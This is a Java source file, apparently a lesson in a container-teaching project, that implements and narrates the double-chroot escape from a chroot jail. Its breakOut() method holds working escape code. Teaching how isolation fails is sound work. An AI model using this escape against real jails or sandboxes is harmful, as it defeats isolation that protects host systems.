package container;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import static container.Jail.*;
import static container.LibC.*;
import static container.Main.HOST_ROOT;
import static container.Narration.*;

/** The way back out of a chroot jail, and how to tell where "/" is. */
final class Escape {

    // lesson::escape[] Break out of the jail
    //   What: mkdir(2) "breakout" and chroot(2) into it without moving the working directory;
    //     chdir("..") many times (64 is plenty); chroot(".") there. Use check(...) for each call
    //     that must succeed; end with the narrated verdict: compare rootIdentity() with HOST_ROOT.
    //   Read: man 2 chroot (its NOTES: "This call does not change the current working directory")
    //   Trap: ".." stops only at the process's root; once the working directory is outside the
    //     root, nothing stops it. It needs CAP_SYS_CHROOT, which root in the jail has.
    // tag::escape[]
    /**
     * The double-chroot escape. The kernel stops ".." only at the process's root. Chroot into
     * a subdirectory without moving the working directory, and the working directory is now
     * *outside* the root: ".." is never stopped again, so it climbs to the host's real "/".
     * Any process with CAP_SYS_CHROOT inside the jail can do this.
     */
    static void breakOut() {
        deleteQuietly(Path.of("breakout")); // left by a run that was killed mid-escape
        check("mkdir(\"breakout\", 0755)", () -> LIBC.mkdir("breakout", 0755), "");
        check("chroot(\"breakout\")", () -> LIBC.chroot("breakout"), "");
        int depth = 64; // deeper than any real path: extra ".." at the real root stay there
        int failed = 0;
        for (int i = 0; i < depth; i++) if (LIBC.chdir("..") != 0) failed++;
        narrate("chdir(\"..\") x " + depth + (failed == 0 ? " = 0 each time" : ": " + failed + " of them = -1"));
        check("chroot(\".\")", () -> LIBC.chroot("."), "");
        narrate(rootIdentity().equals(HOST_ROOT) ? "escaped: \"/\" is the host's root directory again" : "still inside: \"/\" is not the host's root");
    }
    // end::escape[]

    static Map<String, Object> rootIdentity() {
        try {
            return Files.readAttributes(Path.of("/"), "unix:dev,ino");
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Java's file calls run on this thread, so they see this thread's root. */
    static List<String> listRoot() {
        try (Stream<Path> entries = Files.list(Path.of("/"))) {
            return entries.map(p -> p.getFileName().toString()).sorted().toList();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
